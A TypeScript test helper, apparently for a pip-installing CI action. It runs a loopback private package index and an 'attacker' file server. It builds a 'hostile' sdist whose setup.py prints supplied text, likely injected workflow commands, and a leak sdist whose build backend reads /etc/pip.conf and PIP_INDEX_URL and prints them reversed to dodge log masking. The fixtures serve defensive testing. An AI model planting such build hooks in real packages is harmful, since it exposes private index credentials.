/**
 * A private package index on loopback, as a company's would be: it serves two packages of its own
 * (a wheel whose module says where it came from, and an sdist whose setup.py prints workflow
 * commands and fails) and sends every other name on to the test bed's index (PyPI online) with a
 * redirect. It records what pip asked for.
 */
import { execFileSync } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { testbed } from './testbed.js';

export const CANARY = 'flask-action-canary';
export const CANARY_MARK = 'served-by-the-private-index';
export const HOSTILE = 'flask-action-hostile';

export interface PrivateIndex {
  url: string;
  requests: string[];
  close: () => Promise<void>;
}

// Builds the two distributions with Python's own zipfile and tarfile (no packaging tools needed).
const MAKE = `
import base64, hashlib, io, sys, tarfile, zipfile
out, mark, hostile = sys.argv[1], sys.argv[2], sys.argv[3]
files = {
    "flask_action_canary/__init__.py": "MARK = %r\\n" % mark,
    "flask_action_canary-1.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: flask-action-canary\\nVersion: 1.0\\n",
    "flask_action_canary-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
}
record = ""
for name, text in files.items():
    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
    record += "%s,sha256=%s,%d\\n" % (name, digest, len(text.encode()))
record += "flask_action_canary-1.0.dist-info/RECORD,,\\n"
files["flask_action_canary-1.0.dist-info/RECORD"] = record
with zipfile.ZipFile(out + "/flask_action_canary-1.0-py3-none-any.whl", "w") as whl:
    for name, text in files.items():
        whl.writestr(name, text)
setup = "import sys\\nprint(%r)\\nprint(%r, file=sys.stderr)\\nsys.exit(1)\\n" % (hostile, hostile)
pkg = {"setup.py": setup, "PKG-INFO": "Metadata-Version: 1.1\\nName: flask-action-hostile\\nVersion: 1.0\\n"}
with tarfile.open(out + "/flask-action-hostile-1.0.tar.gz", "w:gz") as sdist:
    for name, text in pkg.items():
        data = text.encode()
        info = tarfile.TarInfo("flask-action-hostile-1.0/" + name)
        info.size = len(data)
        sdist.addfile(info, io.BytesIO(data))
`;

/**
 * `hostileOutput` is what the sdist's setup.py prints (to stdout and stderr) before failing. With
 * `login`, every request without that user and password is answered 401, as a company index would.
 */
export async function startPrivateIndex(hostileOutput: string, login?: { user: string; password: string }): Promise<PrivateIndex> {
  const dir = mkdtempSync(join(tmpdir(), 'private-index-'));
  execFileSync('python3', ['-c', MAKE, dir, CANARY_MARK, hostileOutput]);
  const own: Record<string, string> = {
    [CANARY]: 'flask_action_canary-1.0-py3-none-any.whl',
    [HOSTILE]: 'flask-action-hostile-1.0.tar.gz',
  };
  const upstream = testbed().pipIndexUrl || 'https://pypi.org/simple/';
  const requests: string[] = [];
  const expected = login ? `Basic ${Buffer.from(`${login.user}:${login.password}`).toString('base64')}` : '';
  const server = createServer((request, response) => {
    const path = request.url ?? '/';
    if (login && request.headers.authorization !== expected) {
      response.writeHead(401, { 'www-authenticate': 'Basic realm="private index"' }).end();
      return;
    }
    requests.push(path);
    const project = /^\/simple\/([^/]+)\/?$/.exec(path)?.[1]?.toLowerCase().replace(/[._]+/g, '-');
    if (project !== undefined && own[project] !== undefined) {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(`<!DOCTYPE html><html><body><a href="../../files/${own[project]}">${own[project]}</a></body></html>\n`);
    } else if (project !== undefined) {
      response.writeHead(302, { location: `${upstream}${project}/` }).end();
    } else if (path.startsWith('/files/') && Object.values(own).includes(path.slice(7))) {
      response.writeHead(200, { 'content-type': 'application/octet-stream' });
      response.end(readFileSync(join(dir, path.slice(7))));
    } else {
      response.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    url: `http://127.0.0.1:${port}/simple/`,
    requests,
    close: () =>
      new Promise((resolve) =>
        server.close(() => {
          rmSync(dir, { recursive: true, force: true });
          resolve();
        }),
      ),
  };
}

/** Where the attacker's package prints what it found, as `PIPCONF-…` lines; LEAK_ABSENT when there was nothing. */
export const LEAK_ABSENT = 'PIPCONF-ABSENT';
export const LEAK_FOUND = 'PIPCONF-REVERSED:';

// An sdist with its own build backend (requires nothing, so pip needs no index to run it): asked
// what it needs to build, it prints /etc/pip.conf and PIP_INDEX_URL reversed (as an attacker would,
// past masking), then fails.
const MAKE_LEAK = `
import io, sys, tarfile
out = sys.argv[1]
backend = """import os, sys
def get_requires_for_build_wheel(config_settings=None):
    try:
        found = open("/etc/pip.conf").read()
    except OSError as error:
        found = None
        line = "PIPCONF-ABSENT %s" % type(error).__name__
    if found is not None:
        line = "PIPCONF-REVERSED:" + found[::-1].replace("\\\\n", "|")
    line += " ENV-REVERSED:" + os.environ.get("PIP_INDEX_URL", "")[::-1]
    print(line)
    print(line, file=sys.stderr)
    sys.exit(1)
"""
files = {
    "pyproject.toml": '[build-system]\\nrequires = []\\nbuild-backend = "backend"\\nbackend-path = ["."]\\n',
    "backend.py": backend,
    "PKG-INFO": "Metadata-Version: 2.1\\nName: flask-action-leak\\nVersion: 1.0\\n",
}
with tarfile.open(out + "/flask_action_leak-1.0.tar.gz", "w:gz") as sdist:
    for name, text in files.items():
        data = text.encode()
        info = tarfile.TarInfo("flask_action_leak-1.0/" + name)
        info.size = len(data)
        sdist.addfile(info, io.BytesIO(data))
`;

/**
 * The attacker's own file server (no login): serves the leaking sdist. A pull request's
 * requirements.txt names it by URL (`requirement`), so pip fetches it whatever index it has.
 */
export async function startAttackerFiles(): Promise<{ requirement: string; close: () => Promise<void> }> {
  const dir = mkdtempSync(join(tmpdir(), 'attacker-files-'));
  execFileSync('python3', ['-c', MAKE_LEAK, dir]);
  const server = createServer((request, response) => {
    if (request.url === '/flask_action_leak-1.0.tar.gz') {
      response.writeHead(200, { 'content-type': 'application/octet-stream' }).end(readFileSync(join(dir, 'flask_action_leak-1.0.tar.gz')));
    } else {
      response.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    requirement: `flask-action-leak @ http://127.0.0.1:${port}/flask_action_leak-1.0.tar.gz`,
    close: () =>
      new Promise((resolve) =>
        server.close(() => {
          rmSync(dir, { recursive: true, force: true });
          resolve();
        }),
      ),
  };
}
